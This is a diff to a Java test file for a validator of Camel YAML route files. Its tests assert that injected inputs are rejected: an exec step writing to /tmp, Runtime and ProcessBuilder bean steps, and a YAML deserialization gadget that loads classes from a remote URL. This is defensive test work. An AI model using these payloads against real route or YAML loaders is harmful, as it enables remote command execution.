@@ -39,6 +39,15 @@ class RouteFileRulesTest {
                 });
         assertThat(rules.read(feed("file:data/inbox/a?doneFileName=${file:name}.done&delay=2000"))).hasSize(1);
         assertThat(rules.read(feed("sftp://till@pos.example:22/outbox?knownHostsFile=/keys/known_hosts"))).hasSize(1);
+        assertThat(rules.read("""
+                - templatedRoute:
+                    routeTemplateRef: terminal-feed
+                    routeId: feed-terminals
+                    parameters:
+                      - { name: feed, value: terminals }
+                      - { name: source, value: "file:data/inbox/terminals" }
+                      - { name: mapping, value: terminals }
+                """)).singleElement().satisfies(d -> assertThat(d.template()).isEqualTo("terminal-feed"));
     }
 
     /** The item a review used: a plain route beside a feed, writing outside the data folder and running a command. */
@@ -52,15 +61,15 @@ class RouteFileRulesTest {
                         - to: exec:touch?args=/tmp/poshub-owned
                 """;
         assertThatThrownBy(() -> rules.read(file)).hasMessage("line 8: only templatedRoute items of the hub's templates "
-                + "(member-feed, pos-feed) may stand in a route file, not 'route'");
+                + "(member-feed, pos-feed, terminal-feed) may stand in a route file, not 'route'");
     }
 
     @ParameterizedTest(name = "{0}")
     @CsvSource(delimiter = '|', textBlock = """
-            a bean step                    | - from: {uri: 'timer:x', steps: [{bean: {beanType: java.lang.Runtime, method: exec}}]} | line 1: only templatedRoute items of the hub's templates (member-feed, pos-feed) may stand in a route file, not 'from'
-            beans                          | - beans: [{name: r, type: java.lang.ProcessBuilder}]                                   | line 1: only templatedRoute items of the hub's templates (member-feed, pos-feed) may stand in a route file, not 'beans'
+            a bean step                    | - from: {uri: 'timer:x', steps: [{bean: {beanType: java.lang.Runtime, method: exec}}]} | line 1: only templatedRoute items of the hub's templates (member-feed, pos-feed, terminal-feed) may stand in a route file, not 'from'
+            beans                          | - beans: [{name: r, type: java.lang.ProcessBuilder}]                                   | line 1: only templatedRoute items of the hub's templates (member-feed, pos-feed, terminal-feed) may stand in a route file, not 'beans'
             a Java tag                     | - templatedRoute: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['http://x']]]] | line 1: Global tag is not allowed: tag:yaml.org,2002:javax.script.ScriptEngineManager
-            a template of Camel's own      | - templatedRoute: {routeTemplateRef: myTemplate, routeId: r}                            | line 1: routeTemplateRef 'myTemplate' is not one of the hub's templates (member-feed, pos-feed)
+            a template of Camel's own      | - templatedRoute: {routeTemplateRef: myTemplate, routeId: r}                            | line 1: routeTemplateRef 'myTemplate' is not one of the hub's templates (member-feed, pos-feed, terminal-feed)
             a local tag                    | - templatedRoute: !foo {routeTemplateRef: pos-feed, routeId: r}                       | line 1: the YAML tag !foo is not taken
             beans inside a templated route | - templatedRoute: {routeTemplateRef: pos-feed, routeId: r, beans: [{name: x, type: '#class:java.lang.Runtime'}]} | line 1: templatedRoute takes parameters, routeId, routeTemplateRef, not 'beans'
             """)
